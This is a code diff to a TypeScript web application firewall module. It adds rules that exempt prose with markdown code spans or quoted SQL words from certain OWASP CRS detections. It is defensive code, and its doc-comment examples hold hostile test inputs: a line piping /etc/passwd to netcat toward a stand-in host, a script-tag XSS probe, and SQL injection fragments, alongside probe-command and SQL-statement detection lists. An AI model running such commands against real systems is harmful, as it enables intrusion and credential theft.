@@ -19,7 +19,12 @@
  *   every call with inert arguments), `l` (930120, OS file names such as `Program Files`, `/var/log`: the value
  *   does not start with a path, has no `../`, no encoded dots or slashes, no NUL, no stream wrapper), `s`
  *   (942350, `; select …` in a sentence: no quote, comment, backslash or encoded quote, and the value starts
- *   with a word, and every part before a `;` has two bare words in a row, which no SQL context accepts). The
+ *   with a word, and every part before a `;` has two bare words in a row, which no SQL context accepts); since
+ *   session 4 also `c` (the 932 command rules whose patterns read a backtick as a command separator, for
+ *   markdown code spans that each hold one simple command which is not a probe; see {@link markdownCodeText}:
+ *   the value is also shown without its spans' opening backticks, as an extra argument those rules inspect) and
+ *   `q` (942100 libinjection and 942230, for SQL words in sentences whose quotes are apostrophes or prose
+ *   quotations with inert content; see {@link proseQuotesInert}); both need at least four words. The
  *   exemption is carried by the argument's name (see {@link PROSE_PREFIX}); the profile turns it into load-time
  *   target exclusions (`proseExclusionDirectives` in ./rules.ts).
  * - **Inline images** ({@link inlineImageSummary}): a `data:image/<raster>;base64,…` value whose payload is
@@ -39,9 +44,21 @@
  */
 export const PROSE_PREFIX = 'gatehouse.prose.';
 
-/** The prose families and the CRS rules each one exempts. */
-export const PROSE_FAMILY_RULES: Readonly<Record<'l' | 's' | 'x', readonly number[]>> = {
+/**
+ * The prose families and the CRS rules each one exempts: `c` (session 4) the command-word rules that read the
+ * delimiter of a markdown code span as a shell command substitution (see {@link markdownCodeText}), `q`
+ * (session 4) the SQL rules that fire on SQL keywords in sentences, quoted or not (libinjection 942100,
+ * `select … having …` 942230; see {@link proseQuotesInert}).
+ */
+export const PROSE_FAMILY_RULES: Readonly<Record<'c' | 'l' | 'q' | 's' | 'x', readonly number[]>> = {
+  // Every CRS 932 rule whose pattern holds a backtick (PL1: 932125 932230 932235 932250 932260 932340 932370
+  // 932380; PL2+: the others).
+  c: [
+    932125, 932200, 932206, 932220, 932230, 932231, 932232, 932235, 932236, 932238, 932239, 932240, 932250,
+    932260, 932340, 932350, 932370, 932371, 932380,
+  ],
   l: [930120],
+  q: [942100, 942230],
   s: [942350],
   x: [941390],
 };
@@ -202,6 +219,100 @@ function noStackedQuery(text: string): boolean {
   return true;
 }
 
+// A markdown code span in prose: a backtick after the start, a space or opening punctuation, content on one line
+// (1–200 characters, no backtick), a backtick before the end, a space or closing punctuation.
+const CODE_SPAN = /(^|[\s(["'“‘])`([^`\n]{1,200})`(?=$|[\s)\]"'”’.,:;!?])/g;
+// What a code span's content may not hold for its delimiters to be taken as markdown: shell syntax beyond one
+// simple command with literal arguments (substitutions, variables, pipes, lists, redirections, grouping, quoting
+// and escapes).
+const SPAN_SHELL_SYNTAX = /[$;|&<>(){}\\'"`*?[\]!#~]/;
+// Commands whose output or duration alone is what a command-substitution probe is after (identity, system
+// information, a delay): a span that runs one of them keeps every rule.
+const PROBE_COMMANDS = new Set(
+  'whoami id uname hostname sleep usleep timeout env printenv ifconfig ipconfig systeminfo getent'.split(' '),
+);
+
+/**
+ * The value with the opening delimiter of each markdown code span replaced by a space, when it is text whose every
+ * backtick delimits such a span and every span holds one simple command with literal arguments (`ping
+ * api.example.com`, `rm -rf dist`); otherwise null. The engine sees this text as an extra argument
+ * (`<name>.markdown-text`, src/waf/profile/expand.ts) inspected by every rule, while the value itself is exempted
+ * (family `c`) from the command-word rules: those rules then miss only what needs a span's opening backtick as a
+ * command separator, and still see every other separator (`;`, `|`, `&&`, `$(`, a newline before a command) in
+ * the extra argument. A shell would run a span's command inside a double-quoted string, so a span that runs a
+ * probe whose output or duration alone is the signal (`whoami`, `id`, `uname`, `sleep 10`, …) is never taken as
+ * markdown; the accepted risk is one other simple command, without metacharacters, between two backticks in a
+ * sentence (`ping api.example.com`: an out-of-band probe to a host named in the text reads exactly like it).
+ * @example
+ * markdownCodeText('I tried `ping api.example.com` and it times out.'); // 'I tried  ping api.example.com` and it times out.'
+ * markdownCodeText('Hi `cat /etc/passwd | nc evil 1` there friend'); // null
+ */
+export function markdownCodeText(text: string): string | null {
+  if (!text.includes('`')) return null;
+  let ok = true;
+  let spans = 0;
+  const out = text.replace(CODE_SPAN, (_m, pre: string, code: string) => {
+    spans++;
+    const command = (code.trim().split(/\s+/)[0] as string).toLowerCase();
+    if (SPAN_SHELL_SYNTAX.test(code) || command === '' || PROBE_COMMANDS.has(command.replace(/^.*\//, '')))
+      ok = false;
+    return `${pre} ${code}\``;
+  });
+  if (!ok || spans === 0 || text.split('`').length !== 2 * spans + 1) return null;
+  return out;
+}
+
+// A quotation in prose: a quote after the start, a space or opening punctuation, a letter first, a letter or
+// sentence punctuation last, up to 80 characters on one line without a quote of the same kind, a closing quote
+// before the end, a space or closing punctuation.
+const QUOTATION = /(^|[\s([])(['"])(\p{L}[^'"\n]{0,78}?[\p{L}.!?])\2(?=$|[\s.,;:!?)\]])/gu;
+// Words that make SQL of a quotation when the value lands inside a quoted SQL string (the quotation is then SQL
+// code between two string literals).
+const SQL_WORDS = new Set(
+  (
+    'or and xor not like rlike regexp is in between union select from where having order group by limit ' +
+    'sleep benchmark waitfor delay true false null div mod exists case when then else end into insert update ' +
+    'delete drop exec execute declare cast convert char concat sounds collate procedure ascii substring ' +
+    'if ifnull version database user'
+  ).split(' '),
+);
+// SQL syntax that is not a quote: comments, escapes, operators, a function call or parenthesised expression, a
+// value that starts with something else than a word or a quotation, encoded quotes and backslashes.
+const SQL_NON_QUOTE_SYNTAX = /[`\\#=<>|^~@]|--|\/\*|\*\/|%2[27]|%5c|[\p{L}\p{Nd}_]\s*\(|^\s*[^\p{L}\s'"]/iu;
+// Statement shapes, never waived (other CRS rules look for them too).
+const SQL_STATEMENT =
+  /\bunion\b[\s\S]*\bselect\b|\bselect\b[\s\S]*\bfrom\b|\binsert\s+into\b|\bdelete\s+from\b|\bdrop\s+(?:table|database)\b|\bwaitfor\s+delay\b|\bupdate\s+\w+\s+set\b/i;
+
+/**
+ * True when the SQL that the text could make is inert: in a numeric or identifier context a sentence starting with
+ * a word and without operators, comments or calls is no expression (and a `;` only ends parts with two bare words
+ * in a row, {@link noStackedQuery}); in a quoted-string context every quote must be a word's apostrophe (`it's`,
+ * `O'Connor`) or delimit a prose quotation (`'Having trouble?'`, `"Select all"`), whose content becomes SQL code
+ * between two string literals: it may hold at most one SQL word and no digit, and the text after it must not
+ * start with a digit or sign (`'or' 1` would be `'…' or ' 1…'`, true in MySQL; `'or' is my …` is false or an
+ * error). Statement shapes (`union … select`, `select … from`, `insert into`, …) are never inert here.
+ * @example
+ * proseQuotesInert("Having fun with Rust & Go; 'or' is my favourite keyword."); // true
+ * proseQuotesInert("Hi 'or 1 or' there friend"); // false
+ */
+export function proseQuotesInert(text: string): boolean {
+  if (SQL_NON_QUOTE_SYNTAX.test(text) || SQL_STATEMENT.test(text) || !noStackedQuery(text)) return false;
+  let ok = true;
+  const rest = text
+    .replace(/(?<=\p{L})'(?=\p{L})/gu, '')
+    .replace(QUOTATION, (m, pre: string, _q: string, content: string, at: number, all: string) => {
+      let sql = 0;
+      for (const w of content.toLowerCase().split(/[^\p{L}]+/u)) if (SQL_WORDS.has(w)) sql++;
+      const after = all.slice(at + m.length).trimStart();
+      if (sql > 1 || /\p{Nd}/u.test(content) || /^[\p{Nd}+\-.]/u.test(after)) ok = false;
+      return `${pre}${content}`;
+    });
+  return ok && !/['"]/.test(rest);
+}
+
+/** Fewest words a value needs for the `c` and `q` families, in JSON and in a query string alike. */
+const MIN_WORDS_CQ = 4;
+
 /** Longest value classified as prose (longer values get no waiver: the classification cost stays bounded). */
 export const MAX_PROSE_BYTES = 32 * 1024;
 
@@ -222,9 +333,10 @@ function inertCalls(text: string): boolean {
 }
 
 /**
- * The prose families (sorted letters among `l`, `s`, `x`; see the module comment) a byte-string value is
- * exempted from, or '' when it is not natural language (or longer than {@link MAX_PROSE_BYTES}) or has the
- * syntax of every family. `minWords`: see {@link isNaturalLanguage}.
+ * The prose families (sorted letters among `c`, `l`, `q`, `s`, `x`; see the module comment) a byte-string value
+ * is exempted from, or '' when it is not natural language (or longer than {@link MAX_PROSE_BYTES}) or has the
+ * syntax of every family. `minWords`: see {@link isNaturalLanguage} (judged with markdown code-span delimiters as
+ * spaces); `c` and `q` need at least four words whatever `minWords` is.
  * @example
  * proseWaivers('Windows users: open C:\\Program Files\\Acme and run setup.exe.'); // 'lx'
  * proseWaivers('Hi <script>alert(1)</script> there friend'); // 'ls'
@@ -233,9 +345,16 @@ function inertCalls(text: string): boolean {
 export function proseWaivers(bytes: string, minWords = 4): string {
   if (bytes.length < 12 || bytes.length > MAX_PROSE_BYTES) return '';
   const text = bytesToText(bytes);
-  if (text === null || !isNaturalLanguage(text, minWords)) return '';
+  if (text === null) return '';
+  // Code-span delimiters are markdown, not code punctuation: prose is judged without them.
+  const md = markdownCodeText(text);
+  const prose = md === null ? text : md.replace(/`/g, ' ');
+  if (!isNaturalLanguage(prose, minWords)) return '';
+  const long = minWords >= MIN_WORDS_CQ || isNaturalLanguage(prose, MIN_WORDS_CQ);
   let out = '';
+  if (long && md !== null) out += 'c';
   if (!LFI_SYNTAX.test(text)) out += 'l';
+  if (long && proseQuotesInert(prose)) out += 'q';
   if (!SQL_SYNTAX.test(text) && noStackedQuery(text)) out += 's';
   if (!XSS_SYNTAX.test(text) && inertCalls(text)) out += 'x';
   return out;
